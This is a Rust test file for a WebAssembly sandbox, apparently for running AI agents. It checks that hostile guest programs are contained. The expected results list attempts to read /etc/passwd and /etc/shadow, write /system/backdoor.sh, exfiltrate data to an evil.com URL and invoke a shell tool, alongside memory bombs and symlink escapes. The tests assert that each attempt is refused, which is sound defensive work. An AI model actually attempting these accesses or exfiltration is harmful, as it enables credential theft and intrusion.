//! Each guest, benign and hostile, through the library.

use super::*;

#[test]
fn seed_agent_sees_each_decision() {
    let t = Tree::new();
    let s = LoopbackServer::start();
    let caps = t.caps().allow_egress(s.origin()).build().unwrap();
    let before = t.outside_out();
    let c = run_guest(
        "seed",
        caps,
        &[&format!("{}/status", s.origin())],
        b"",
        false,
    );
    assert_completed(&c);
    let lines: Vec<&str> = c.stdout.lines().collect();
    let want = [
        "1. read /work/data.txt: ok",
        "2. read /etc/passwd: refused",
        "3. read /work/../etc/shadow: refused",
        "4. write /work/out/report.txt: ok",
        "5. write /system/backdoor.sh: refused",
        "6. fetch",
        "7. fetch http://evil.com/steal?data=secrets: refused: denied: egress_denied",
        "8. tool word_count: ok: 7",
        "9. tool shell: refused: denied: tool_denied",
    ];
    assert_eq!(lines.len(), want.len(), "{}", c.stdout);
    for (line, w) in lines.iter().zip(want) {
        assert!(line.starts_with(w), "{line:?} should start with {w:?}");
    }
    assert!(lines[5].contains("ok: HTTP 200 \"ok\""), "{}", lines[5]);
    assert_eq!(
        s.connections(),
        1,
        "only the granted fetch reached the network"
    );
    assert_eq!(t.outside_out(), before);
    assert!(
        std::fs::read_to_string(t.path("out/report.txt"))
            .unwrap()
            .contains("margin")
    );
    // The host saw and decided every action, file ones included.
    let decided: Vec<(&str, &str, Option<Violation>)> = c
        .run
        .audit
        .iter()
        .map(|e| (e.op.as_str(), e.target.as_str(), e.violation))
        .collect();
    let url = format!("{}/status", s.origin());
    assert_eq!(
        decided,
        [
            ("fs_read", "/work/data.txt", None),
            ("fs_read", "/etc/passwd", Some(Violation::FsReadDenied)),
            (
                "fs_read",
                "/work/../etc/shadow",
                Some(Violation::PathTraversal)
            ),
            ("fs_write", "/work/out/report.txt", None),
            (
                "fs_write",
                "/system/backdoor.sh",
                Some(Violation::FsWriteDenied)
            ),
            ("net_fetch", url.as_str(), None),
            (
                "net_fetch",
                "http://evil.com/steal?data=secrets",
                Some(Violation::EgressDenied)
            ),
            ("tool_call", "word_count", None),
            ("tool_call", "shell", Some(Violation::ToolDenied)),
        ]
    );
    assert_eq!(c.run.audit[5].status, Some(200));
    assert_eq!(c.run.report.usage.ops, 9);
}

#[test]
fn file_operations_count_against_max_ops_and_a_halt_stops_the_effect() {
    let t = Tree::new();
    let caps = t.caps().max_ops(3).build().unwrap();
    let c = run_guest("seed", caps, &["http://127.0.0.1:9/"], b"", false);
    assert_halted(&c, Violation::MaxOps);
    // Op 4 is the write of /work/out/report.txt: refused before WASI ran it.
    assert_eq!(c.run.audit.len(), 4);
    assert_eq!(c.run.audit[3].target, "/work/out/report.txt");
    assert!(!t.path("out/report.txt").exists());
    assert_eq!(c.stdout.lines().count(), 3, "{}", c.stdout);
}

#[test]
fn benign_agent_does_its_work() {
    let t = Tree::new();
    let s = LoopbackServer::start();
    let caps = t.caps().allow_egress(s.origin()).build().unwrap();
    let c = run_guest(
        "benign",
        caps,
        &[&format!("{}/status", s.origin())],
        b"",
        false,
    );
    assert_completed(&c);
    assert_eq!(c.run.report.exit_code, Some(0));
    let summary = std::fs::read_to_string(t.path("out/summary.txt")).unwrap();
    assert_eq!(summary, "rows=2 total=42 api=ok words=3\n");
    assert_eq!(c.stdout, summary);
    assert!(c.run.report.denials.is_empty());
}

#[test]
fn infinite_loop_ends_as_max_fuel_or_max_wall() {
    let t = Tree::new();
    let c = run_guest(
        "spin",
        t.caps().max_fuel(50_000_000).build().unwrap(),
        &[],
        b"",
        false,
    );
    assert_halted(&c, Violation::MaxFuel);
    assert_eq!(c.run.report.usage.fuel, Some(50_000_000));
    let started = Instant::now();
    let caps = t
        .caps()
        .max_fuel(sbx_wasm::budget::LIMIT_MAX_FUEL)
        .max_wall(Duration::from_millis(300))
        .build()
        .unwrap();
    let c = run_guest("spin", caps, &[], b"", false);
    assert_halted(&c, Violation::MaxWall);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn a_guest_asleep_in_the_host_ends_as_max_wall() {
    let t = Tree::new();
    let started = Instant::now();
    let c = run_guest(
        "sleepy",
        t.caps()
            .max_wall(Duration::from_millis(500))
            .build()
            .unwrap(),
        &[],
        b"",
        false,
    );
    assert_halted(&c, Violation::MaxWall);
    assert_eq!(c.stdout, "going to sleep\n");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn deep_recursion_ends_as_stack_overflow() {
    let t = Tree::new();
    let c = run_guest("recurse", t.caps().build().unwrap(), &[], b"", false);
    assert_halted(&c, Violation::StackOverflow);
}

#[test]
fn memory_bomb_ends_as_max_memory() {
    let t = Tree::new();
    let c = run_guest(
        "membomb",
        t.caps().max_memory_bytes(64 << 20).build().unwrap(),
        &[],
        b"",
        false,
    );
    assert_halted(&c, Violation::MaxMemory);
    let peak = c.run.report.usage.memory_peak_bytes.unwrap();
    assert!(peak <= 64 << 20 && peak > 16 << 20, "{peak}");
}

#[test]
fn output_flood_ends_as_max_output_bytes_with_exactly_the_budget_written() {
    let t = Tree::new();
    let c = run_guest(
        "flood",
        t.caps().max_output_bytes(10_000).build().unwrap(),
        &[],
        b"",
        false,
    );
    assert_halted(&c, Violation::MaxOutputBytes);
    assert_eq!(c.stdout.len(), 10_000);
    assert_eq!(c.run.report.usage.output_bytes, 10_000);
}

#[test]
fn probe_finds_every_escape_closed_and_only_what_was_granted() {
    let t = Tree::new();
    std::os::unix::fs::symlink("../secret.txt", t.path("out/link")).unwrap();
    std::os::unix::fs::symlink(t.path("secret.txt"), t.path("out/abs")).unwrap();
    std::fs::write(t.path("out/note.txt"), "note").unwrap();
    let s = LoopbackServer::start();
    let caps = t.caps().env("GRANTED", "yes").build().unwrap();
    let before = t.outside_out();
    // SAFETY of the probe: the host's own environment must not leak in.
    let c = run_guest(
        "probe",
        caps,
        &["--flag", &format!("127.0.0.1:{}", s.port)],
        b"hello stdin",
        false,
    );
    assert_completed(&c);
    let lines: BTreeMap<&str, &str> = c
        .stdout
        .lines()
        .filter_map(|l| l.split_once(": "))
        .collect();
    assert_eq!(
        lines["args"],
        format!(r#"["probe", "--flag", "127.0.0.1:{}"]"#, s.port)
    );
    assert_eq!(lines["env"], r#"[("GRANTED", "yes")]"#);
    assert_eq!(lines["stdin"], r#""hello stdin""#);
    for escape in [
        "read-dotdot",
        "read-abs",
        "read-sibling",
        "symlink-read",
        "symlink-abs-read",
        "symlink-write",
        "hardlink-out",
        "rename-out",
        "rename-dotdot",
        "write-ro",
        "truncate-ro",
        "remove-ro",
        "mkdir-ro",
        "socket",
    ] {
        assert!(
            lines[escape].starts_with("err"),
            "{escape} escaped: {}",
            lines[escape]
        );
    }
    assert!(
        lines["write-out"].starts_with("ok"),
        "{}",
        lines["write-out"]
    );
    assert!(!c.stdout.contains(SECRET));
    assert_eq!(
        t.outside_out(),
        before,
        "something outside the write mount changed"
    );
    assert_eq!(
        std::fs::read_to_string(t.path("secret.txt")).unwrap(),
        SECRET
    );
    assert_eq!(s.connections(), 0, "the raw socket reached the server");
}

#[test]
fn a_panicking_guest_ends_as_trapped_with_the_message() {
    let t = Tree::new();
    let c = run_guest("panics", t.caps().build().unwrap(), &[], b"", false);
    assert_eq!(c.run.report.status, Status::Trapped, "{:?}", c.run);
    assert_eq!(c.run.report.violation, None);
    let msg = c.run.trap.as_deref().unwrap();
    assert!(msg.contains("unreachable"), "{msg}");
    assert!(c.stderr.contains("index out of bounds"), "{}", c.stderr);
    let out = sbx(
        t.dir.path(),
        &[
            "run",
            "--caps",
            &write_caps(t.dir.path(), "").display().to_string(),
            guest("panics").to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(123));
    assert!(String::from_utf8_lossy(&out.stderr).contains("guest trapped"));
}

#[test]
fn deterministic_runs_are_byte_identical() {
    let t = Tree::new();
    let s = LoopbackServer::start();
    let caps = t.caps().allow_egress(s.origin()).build().unwrap();
    let url = format!("{}/status", s.origin());
    let once = || {
        // Same input: the write mount as the first run found it.
        let _ = std::fs::remove_file(t.path("out/report.txt"));
        let c = run_guest("seed", caps.clone(), &[&url], b"", true);
        (
            c.stdout,
            serde_json::to_string(&c.run.report).unwrap(),
            serde_json::to_string(&c.run.audit).unwrap(),
        )
    };
    let (a, b) = (once(), once());
    assert_eq!(a, b);
}
